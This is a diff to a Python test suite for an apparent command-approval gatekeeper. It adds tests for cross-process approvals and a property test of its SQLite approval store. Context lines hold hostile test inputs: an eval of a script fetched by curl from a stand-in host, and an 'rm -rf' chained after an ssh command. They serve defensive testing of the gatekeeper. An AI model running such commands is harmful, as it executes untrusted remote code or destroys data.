@@ -6,6 +6,8 @@ import multiprocessing
 import time
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from runestone.actions import Action
 from runestone.approvals.service import ApprovalError
@@ -253,3 +255,98 @@ def test_the_engine_says_when_its_ask_rules_account_for_everything():
     assert not explained('ssh prod-db uptime && eval "$(curl -s https://x.example/a)"')
     assert not explained('ssh prod-db uptime; rm -rf "$X"')  # a deny that might apply
     assert not explained('sh -c "ssh prod-db x; frobnicate"')
+
+
+def _elsewhere(step: str, argument) -> None:
+    """Another process approves a request or grants an action, as the approval page or
+    `runestone approvals` does."""
+    from runestone.approvals.service import Approvals, ApprovalSettings
+    from runestone.gatekeeper import open_audit_log
+    from runestone.home import layout
+
+    audit = open_audit_log(layout())
+    other = Approvals(layout(), audit=audit, settings=ApprovalSettings(ttl_seconds=600))
+    if step == "approve":
+        other.decide(argument, approve=True, approver="bob")
+    else:
+        other.grant(approver="bob", minutes=5, uses=1, action=argument)
+    other.close()
+    audit.close()
+
+
+def test_an_approval_or_grant_made_by_another_process_is_spent_by_the_next_ask(runtime):
+    """An ask that found nothing to spend remembers it until a connection writes: another
+    process's approval or grant must still be found by the very next ask."""
+    _, _, approvals = runtime
+    request = open_one(approvals)
+    assert approvals.redeem(ACTION, ask()) is None  # nothing approved: remembered
+    assert approvals.redeem(ACTION, ask()) is None  # answered from what was remembered
+    for step, argument, spent in (("approve", request.id, ("request", request.id)),
+                                  ("grant", ACTION, "grant")):
+        worker = multiprocessing.get_context("spawn").Process(target=_elsewhere,
+                                                              args=(step, argument))
+        worker.start()
+        worker.join(timeout=60)
+        assert worker.exitcode == 0
+        answer = approvals.redeem(ACTION, ask())
+        assert answer is not None and spent in (answer, answer[0])
+        assert approvals.redeem(ACTION, ask()) is None  # spent
+
+
+_STORE_STEPS = st.lists(st.tuples(
+    st.sampled_from(["open", "approve", "deny", "consume", "grant", "use", "revoke",
+                     "expire", "spendable"]),
+    st.integers(0, 1),  # which of two connections makes the step
+    st.integers(0, 2)), max_size=25)  # which request or grant it is about
+
+
+@given(_STORE_STEPS)
+def test_spendable_is_never_false_while_something_can_be_spent(tmp_path_factory, steps):
+    """`spendable` against a fresh look at the table after every step, whichever of two
+    connections (two processes, as far as SQLite can tell) made the change."""
+    from runestone.approvals.store import ApprovalStore, Grant
+
+    path = tmp_path_factory.mktemp("spendable") / "approvals.sqlite3"
+    stores = [ApprovalStore(path), ApprovalStore(path)]
+    now = time.time()
+    try:
+        for step, who, which in steps:
+            store = stores[who]
+            request_id, grant_id = f"req_{which}", f"grant_{which}"
+            if step == "open" and store.request(request_id) is None:
+                store.add_request(open_request_row(request_id, now))
+            elif step in ("approve", "deny"):
+                store.decide(request_id, "approved" if step == "approve" else "denied",
+                             "alice", "", "once", now)
+            elif step == "consume":
+                store.consume(request_id, "h" * 64, now)
+            elif step == "grant" and store.grant(grant_id) is None:
+                store.add_grant(Grant(grant_id, "action", f"key{which}", None, None, "s",
+                                      now, now + 300, 1, 0, "alice", None, None, None))
+            elif step == "use":
+                store.use_grant(f"key{which}", (), "s1", now)
+            elif step == "revoke":
+                store.revoke(grant_id, "alice", now)
+            elif step == "expire":
+                store.expire_due(now + 3600)
+            truth = ApprovalStore(path)
+            try:
+                real = bool(truth._read(
+                    "SELECT 1 FROM requests WHERE state = 'approved' UNION ALL SELECT 1 FROM "
+                    "grants WHERE revoked IS NULL AND expires > ? AND (uses_left IS NULL OR "
+                    "uses_left > 0)", (now,)))
+            finally:
+                truth.close()
+            for each in stores:
+                assert each.spendable(now) or not real
+    finally:
+        for store in stores:
+            store.close()
+
+
+def open_request_row(request_id: str, now: float):
+    from runestone.approvals.store import Request
+
+    return Request(request_id, "Bash", {"command": "ssh prod-db uptime"}, "ssh prod-db uptime",
+                   "h" * 64, "p" * 64, (), "asked", {}, "", "s1", "dev", "host", now, now + 300,
+                   "pending", "token", "nonce")
